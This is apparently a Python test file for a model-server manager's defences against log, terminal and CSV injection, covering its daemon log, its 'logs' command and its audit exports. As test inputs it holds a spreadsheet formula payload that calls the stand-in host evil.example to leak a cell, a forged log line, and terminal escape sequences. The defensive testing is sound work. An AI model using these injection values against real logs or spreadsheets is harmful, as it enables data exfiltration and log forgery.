"""Log, terminal and CSV injection (issue 24, item 11): text a client chose (a path, a model id)
cannot forge a log line, drive the terminal of whoever reads the log or the audit log, or run as
a formula in the spreadsheet that opens `audit query --csv`."""

from __future__ import annotations

import csv
import io
import json
import os
import signal
import socket
import subprocess
import sys
from pathlib import Path

import httpx
from typer.testing import CliRunner

from mlx_manager.cli import app
from mlx_manager.escape import printable
from tests.audit_rows import fill, record
from tests.daemon_server import wait_until

runner = CliRunner()
FORGED = "2026-01-01 00:00:00,000 INFO mlx_manager.daemon: forged"
RED = "\x1b[31m"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_printable_escapes_what_a_terminal_or_a_log_reader_acts_on():
    assert printable("plain text, / and spaces") == "plain text, / and spaces"
    assert printable("a\nb\rc\td") == "a\\nb\\rc\\td"
    assert printable(f"{RED}red\x07\x9b") == "\\x1b[31mred\\x07\\x9b"
    assert printable("abc\u202edcba\u2028x\ud800") == "abc\\u202edcba\\u2028x\\ud800"


def test_the_daemons_log_keeps_one_line_per_record(tmp_path):
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        port = sock.getsockname()[1]
    daemon = subprocess.Popen(
        [sys.executable, "-m", "mlx_manager.cli", "serve", "--port", str(port)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        url = f"http://127.0.0.1:{port}"

        def up() -> bool:
            try:
                return httpx.get(url + "/health", timeout=2).status_code == 200
            except httpx.HTTPError:
                return False

        assert wait_until(up, timeout=60, interval=0.1)
        # A path is client text that reaches the access line: %0a is a newline, %1b an escape.
        forged = "/v1/x%0a" + FORGED.replace(" ", "%20") + "%1b%5b31m"
        assert httpx.get(url + forged).status_code == 404
        daemon.send_signal(signal.SIGTERM)
        _, stderr = daemon.communicate(timeout=60)
    finally:
        if daemon.poll() is None:
            daemon.kill()
            daemon.communicate()
    log = (Path(os.environ["MLX_MANAGER_HOME"]) / "logs" / "daemon.log").read_text()
    access = [line for line in log.splitlines() if "GET /v1/x" in line]
    assert len(access) == 1 and "\\n2026-01-01" in access[0] and "\\x1b[31m" in access[0]
    assert not any(line.startswith(FORGED) for line in log.splitlines())
    assert "\x1b" not in log and "\x1b" not in stderr


def test_logs_prints_control_characters_escaped(isolated_home):
    log = isolated_home / "logs" / "daemon.log"
    log.parent.mkdir()
    log.write_text(f"2026-05-01 12:00:00,000 ERROR crash output {RED}red\x07\n")  # e.g. a crash printed raw
    result = runner.invoke(app, ["logs"])
    assert result.exit_code == 0
    assert result.stdout == "2026-05-01 12:00:00,000 ERROR crash output \\x1b[31mred\\x07\n"


def test_audit_tables_and_csv_show_client_text_inert(isolated_home):
    fill(
        isolated_home / "audit.db",
        [
            record(request_id="r-1", model=FORMULA, endpoint="/v1/chat/completions"),
            record(request_id="r-2", model=f"{RED}red", endpoint="/v1/x\n" + FORGED, status="error", http_status=404),
        ],
    )
    for command in (["audit", "tail", "--wide"], ["audit", "query", "--wide"], ["audit", "stats", "--by", "model"]):
        shown = runner.invoke(app, command)
        assert shown.exit_code == 0, shown.stderr
        assert "\x1b" not in shown.stdout and "\\x1b[31mred" in shown.stdout, command
        assert not any(line.startswith(FORGED) for line in shown.stdout.splitlines())
    exported = runner.invoke(app, ["audit", "query", "--csv"])
    rows = {row["request_id"]: row for row in csv.DictReader(io.StringIO(exported.stdout))}
    assert rows["r-1"]["model"] == "'" + FORMULA  # a spreadsheet shows it as text
    assert rows["r-1"]["prompt_tokens"] == "10"  # numbers are left as numbers
    # --json is for programs: the values as stored.
    as_json = runner.invoke(app, ["audit", "query", "--json"])
    assert FORMULA in [row["model"] for row in json.loads(as_json.stdout)]
